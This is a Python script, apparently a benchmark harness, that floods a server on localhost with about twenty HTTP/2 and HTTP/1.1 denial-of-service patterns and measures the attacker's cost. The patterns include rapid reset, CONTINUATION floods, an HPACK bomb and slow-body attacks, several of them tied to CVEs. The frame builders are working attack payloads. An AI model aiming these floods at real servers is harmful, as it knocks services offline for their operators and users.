"""KIND PORT SECONDS CONNECTIONS: one flood of http://127.0.0.1:PORT/, one of FLOODS below; or --list: their names.

What it sends is made before, and written in large pieces by one thread, so that next to nothing but the system's work is the
attacker's cost. A connection that is cut is made anew. Prints the bytes that were sent, the connections that were made, and
the processor time that this took, in seconds.
"""

import resource
import selectors
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A text of HPACK, plainly."""
    length = len(value)
    if length < 127:
        return bytes([length]) + value
    number, length = b"\x7f", length - 127
    while length >= 128:
        number, length = number + bytes([length % 128 + 128]), length // 128
    return number + bytes([length]) + value


def field(name, value):
    return b"\0" + text(name) + text(value)


def head(method=b"GET", path=b"/hold", more=b""):
    return field(b":method", method) + b"\x86" + field(b":authority", b"test") + field(b":path", path) + more


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def begin(*pairs):
    return PREFACE + settings(*pairs)


def get(stream, block):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block)


def post(stream):
    return frame(HEADERS, END_HEADERS, stream, head(b"POST"))


def streams(count):
    return range(1, 2 * count, 2)


def rapid_reset():
    """Requests that are reset at once (CVE-2023-44487)."""
    block = head()
    pairs = [get(s, block) + frame(RST_STREAM, 0, s, b"\0\0\0\x08") for s in streams(20_000)]
    return begin() + b"".join(pairs[:400]), b"".join(pairs[400:])


def made_you_reset():
    """Requests that the server resets (CVE-2025-8671)."""
    block = head()
    pairs = [get(s, block) + frame(WINDOW_UPDATE, 0, s, bytes(4)) for s in streams(20_000)]
    return begin() + b"".join(pairs[:120]), b"".join(pairs[120:])


def continuation():
    """A head without end, in pieces without anything (CVE-2024-27316)."""
    piece = frame(CONTINUATION, 0, 1)
    return begin() + frame(HEADERS, END_STREAM, 1, head()) + piece * 10, piece * 20_000


def long_head():
    """A head without end, of long fields."""
    piece = frame(CONTINUATION, 0, 1, field(b"x", b"x" * 16_000))
    return begin() + frame(HEADERS, END_STREAM, 1, head()) + piece * 6, piece * 10


def empty_data():
    """Data without data (CVE-2019-9518)."""
    return begin() + post(1), frame(DATA, 0, 1) * 1_000


def tiny_data():
    """Data of one byte, in as much padding as possible."""
    return begin() + post(1), frame(DATA, 8, 1, b"\xff" + b"x" + bytes(255)) * 100


def idle(one):
    """More of a frame than is taken."""
    return begin() + get(1, head()) + one * 1_400, one * 10_000


def ping():
    """CVE-2019-9512."""
    return idle(frame(PING, 0, 0, b"pingping"))


def settings_flood():
    """CVE-2019-9515."""
    return idle(settings((4, 65_535)))


def priority():
    """CVE-2019-9513."""
    return idle(frame(PRIORITY, 0, 1, b"\0\0\0\x03\x10"))


def window_updates():
    return idle(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01"))


def unknown():
    return idle(frame(0xFA, 0, 0))


def refused():
    """More requests than may be open."""
    block = head()
    requests = [get(s, block) for s in streams(20_000)]
    return begin() + b"".join(requests[:220]), b"".join(requests[220:])


def bomb():
    """Fields that are stored once, and named again and again by a byte (CVE-2026-49975)."""
    stored = b"\x40" + text(b"x-bomb") + text(b"x" * 3_000)
    block = head(more=b"\xbe" * 20)
    return begin() + get(1, head(more=stored)) + b"".join(get(s, block) for s in streams(100)[1:]), b""


def stalled_windows():
    """Large answers into windows of nothing (CVE-2019-9511)."""
    block = head(path=b"/large")
    return begin((4, 0)) + b"".join(get(s, block) for s in streams(100)), b""


def unread():
    """Large answers that nobody reads (CVE-2019-9517)."""
    block = head(path=b"/large")
    windows = frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\0\0")
    return begin((4, 0x7FFF_FFFF)) + windows + b"".join(get(s, block) for s in streams(100)), b""


def plain_http2():
    """As many requests as may be open, and nothing else: what others are compared with."""
    block = head()
    return begin() + b"".join(get(s, block) for s in streams(100)), b""


def plain_http1():
    return b"GET /hold HTTP/1.1\r\nHost: test\r\n\r\n", b""


def slow_body():
    """A body of which a byte comes now and then."""
    return b"POST /hold HTTP/1.1\r\nHost: test\r\nContent-Length: 1000000\r\n\r\n", b""


def many_heads():
    """Heads that come up to their last line, and not to their end."""
    line = b"X-Head: " + b"x" * 590 + b"\r\n"
    return b"GET /hold HTTP/1.1\r\nHost: test\r\n" + line * 99, b""


def pipelined():
    """Heads of many fields, one behind the other."""
    one = b"GET /no HTTP/1.1\r\nHost: test\r\n" + b"A:\r\n" * 98 + b"\r\n"
    return b"", one * 100


# Each makes what is sent first, and what again and again; and what its connections do beside. Those that await the end are
# sent what antifreeze puts up with, and a little more; if they are not cut, the rest follows.
FLOODS = {
    "plain-http2": (plain_http2, "read"),
    "plain-http1": (plain_http1, "read"),
    "rapid-reset": (rapid_reset, "await the end"),
    "made-you-reset": (made_you_reset, "await the end"),
    "continuation": (continuation, "await the end"),
    "long-head": (long_head, "await the end"),
    "empty-data": (empty_data, "read"),
    "tiny-data": (tiny_data, "read"),
    "ping": (ping, "await the end"),
    "settings": (settings_flood, "await the end"),
    "priority": (priority, "await the end"),
    "window-update": (window_updates, "await the end"),
    "unknown": (unknown, "await the end"),
    "refused": (refused, "await the end"),
    "hpack-bomb": (bomb, "read"),
    "stalled-windows": (stalled_windows, "read"),
    "unread": (unread, "ignore what comes"),
    "slow-body": (slow_body, "send a byte a second"),
    "many-heads": (many_heads, "read"),
    "pipelined": (pipelined, "read"),
}
PATIENCE = 0.05


class Connection:
    def __init__(self, flood):
        self.flood = flood
        flood.made += 1
        self.socket = socket.socket()
        # What the other side never reads is not to be counted.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 32 * 1024)
        self.socket.setblocking(False)
        self.socket.connect_ex(("127.0.0.1", flood.port))
        self.left = memoryview(flood.first or flood.again)
        self.events = 0
        self.sent = time.monotonic()
        self.watch()

    def watch(self):
        reads = selectors.EVENT_READ if self.flood.manner != "ignore what comes" else 0
        events = reads | (selectors.EVENT_WRITE if self.left else 0)
        if events != self.events:
            selector = self.flood.selector
            if not self.events:
                selector.register(self.socket, events, self)
            elif not events:
                selector.unregister(self.socket)
            else:
                selector.modify(self.socket, events, self)
            self.events = events

    def step(self, events):
        try:
            if events & selectors.EVENT_WRITE:
                count = self.socket.send(self.left)
                self.flood.sent += count
                self.sent = time.monotonic()
                self.left = self.left[count:]
                if not self.left and self.flood.manner == "read":
                    self.left = memoryview(self.flood.again)
                self.watch()
            if events & selectors.EVENT_READ and not self.socket.recv_into(self.flood.buffer):
                self.end()
        except BlockingIOError:
            pass
        except OSError:
            self.end()

    def waits(self, now, long):
        return not self.left and now - self.sent > long

    def go_on(self, more):
        self.left = memoryview(more)
        self.watch()

    def end(self):
        if self.events:
            self.flood.selector.unregister(self.socket)
        self.socket.close()
        self.flood.open.remove(self)


class Flood:
    def __init__(self, kind, port, seconds, connections):
        make, self.manner = FLOODS[kind]
        self.first, self.again = make()
        self.port, self.seconds, self.connections = port, seconds, connections
        self.selector = selectors.DefaultSelector()
        self.buffer = bytearray(1 << 20)
        self.open = set()
        self.sent = self.made = 0

    def run(self):
        end = time.monotonic() + self.seconds
        while (now := time.monotonic()) < end:
            while len(self.open) < self.connections:
                self.open.add(Connection(self))
            for key, events in self.selector.select(PATIENCE):
                key.data.step(events)
            for connection in list(self.open):
                if self.manner == "send a byte a second" and connection.waits(now, 1):
                    connection.go_on(b"x")
                elif self.manner == "await the end" and connection.waits(now, PATIENCE):
                    connection.go_on(self.again)


if sys.argv[1:] == ["--list"]:
    print(*FLOODS)
else:
    flood = Flood(sys.argv[1], *(int(word) for word in sys.argv[2:5]))
    before = resource.getrusage(resource.RUSAGE_SELF)
    flood.run()
    after = resource.getrusage(resource.RUSAGE_SELF)
    print(flood.sent, flood.made, f"{after.ru_utime - before.ru_utime + after.ru_stime - before.ru_stime:.2f}")
